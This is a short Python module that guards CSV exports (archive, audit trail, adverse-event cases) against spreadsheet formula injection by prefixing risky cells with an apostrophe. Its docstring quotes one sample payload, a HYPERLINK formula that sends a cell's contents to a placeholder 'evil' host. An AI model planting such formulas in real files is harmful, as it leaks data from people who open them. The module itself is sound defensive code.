"""CSV cells that a spreadsheet opens as text, never as a formula.

Exports (archive, audit trail, adverse-event cases) hold text that outsiders wrote: a comment
reading `=HYPERLINK("http://evil/?"&A1, "click")` becomes a live formula when a privacy officer
opens the CSV in Excel or LibreOffice (CSV/formula injection, OWASP). A cell that a spreadsheet
would read as a formula, i.e. one starting with = + - @ or a tab or carriage return, gets a
leading apostrophe, the convention spreadsheets display as "text". Numbers stay numbers: a
plain negative number such as -3 or -0.5 is not a formula and is left alone. JSONL exports
are never changed: they are the faithful record; CSV is the spreadsheet view of it.
"""

from __future__ import annotations

import re
from typing import Any

_FORMULA_START = frozenset("=+-@\t\r")
_NUMBER = re.compile(r"-?\d+(?:\.\d+)?\Z")


def cell(value: Any) -> Any:
    """`value` made safe for a spreadsheet cell; non-strings pass through unchanged."""
    if not isinstance(value, str) or not value or value[0] not in _FORMULA_START:
        return value
    if _NUMBER.match(value):
        return value
    return "'" + value


def row(values: list[Any]) -> list[Any]:
    """Every cell of a CSV row made safe (see `cell`)."""
    return [cell(v) for v in values]
